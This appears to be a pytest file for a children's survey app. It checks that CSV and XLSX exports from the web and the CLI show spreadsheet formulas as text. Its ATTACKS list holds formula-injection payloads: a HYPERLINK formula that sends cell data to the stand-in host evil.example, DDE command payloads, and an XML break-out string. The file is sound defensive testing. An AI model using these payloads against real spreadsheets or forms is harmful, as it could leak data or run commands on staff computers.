"""Nothing a young person writes can run as a formula in a worker's spreadsheet: every CSV and XLSX
download, from the web and from the CLI, read back cell by cell."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from survey_app.cells import FORMULA_STARTS, guard_formula, unguard_formula
from survey_app.extensions import db
from survey_app.models import Action

from .journey import Journey
from .prepared_files import prepared_file
from .test_safeguarding_every_ending import answer_everything

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click for your results")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+2", "\r=1+3",
           # XlsxWriter alone would write this into the sheet as XML (reporting/xlsx_rows.py): a formula cell
           '<r><t>x</t></r></is></c><c r="Z1"><f>1+4</f></c><c r="Z2" t="inlineStr"><is><r><t>y</t></r>']
DOWNLOADS = ["responses.csv", "responses.xlsx", "tallies.csv", "tallies.xlsx", "tallies-board.csv"]


def send_all(app, slug: str) -> None:
    for attack in ATTACKS * 2:
        child = Journey(app.test_client(), slug)
        answer_everything(child, {"grow_up_to_be": attack})
        child.send()


def cells_of(name: str, body: bytes) -> tuple[list[str], int]:
    """Every cell's text, and how many are formula cells."""
    if name.endswith(".csv"):
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row], 0
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    return [str(cell.value) for cell in cells if cell.value is not None], sum(cell.data_type == "f" for cell in cells)


def assert_harmless(name: str, body: bytes, expect_attacks: bool) -> None:
    texts, formulas = cells_of(name, body)
    assert formulas == 0, name
    live = [text for text in texts if text.startswith(FORMULA_STARTS)]
    assert live == [], (name, live)
    if expect_attacks:  # the answers are there, shown as text
        assert sum(text.startswith("'") for text in texts) >= 6, name
        assert ATTACKS[-1] in texts, name


def test_every_web_download_shows_a_formula_as_text(app, client, make_round, make_staff, sign_in):
    slug = make_round("younger-children")
    send_all(app, slug)
    sign_in(*make_staff("worker"))
    for name in DOWNLOADS:
        response = prepared_file(client, f"/staff/reports/{slug}/download/{name}", f"/staff/reports/{slug}")
        assert response.status_code == 200, name
        assert_harmless(name, response.data, expect_attacks=name.startswith("responses"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_cli_export_shows_a_formula_as_text(app, runner, make_round, tmp_path, fmt):
    slug = make_round("younger-children")
    send_all(app, slug)
    for what in ("responses", "tallies"):
        output = tmp_path / f"{what}.{fmt}"
        result = runner.invoke(args=["report", slug, "--format", fmt, "--what", what, "--staff", "--output",
                                     str(output)])
        assert result.exit_code == 0, result.output
        assert_harmless(output.name, output.read_bytes(), expect_attacks=what == "responses")


def test_the_action_register_export_shows_a_formula_as_text(app, runner, tmp_path):
    result = runner.invoke(args=["actions", "demo"])
    assert result.exit_code == 0, result.output
    output = tmp_path / "actions.csv"
    with app.app_context():
        action = db.session.query(Action).first()
        action.title = "=HYPERLINK(\"http://evil.example\",\"Progress\")"
        db.session.commit()
    result = runner.invoke(args=["actions", "export", "-o", str(output)])
    assert result.exit_code == 0, result.output
    assert_harmless("actions.csv", output.read_bytes(), expect_attacks=False)
    assert "'=HYPERLINK(" in output.read_text(encoding="utf-8-sig")


def test_the_action_register_web_download_shows_a_formula_as_text(app, client, runner, make_staff, sign_in):
    assert runner.invoke(args=["actions", "demo"]).exit_code == 0
    with app.app_context():
        for action, attack in zip(db.session.query(Action).order_by(Action.reference), ATTACKS, strict=False):
            action.owner = attack
        db.session.commit()
    sign_in(*make_staff("worker"))
    response = client.get("/staff/actions/export.csv")
    assert response.status_code == 200
    assert_harmless("actions.csv", response.data, expect_attacks=False)
    assert "'=HYPERLINK(" in response.get_data(as_text=True)


@pytest.mark.parametrize("cell", ["=1+1", "'=1+1", "-5", "plain", "'quoted", "\t=x", "@me"])
def test_guarding_and_unguarding_gives_back_the_cell(cell):
    guarded = guard_formula(cell)
    assert not guarded.startswith(FORMULA_STARTS)
    assert unguard_formula(guarded) == cell
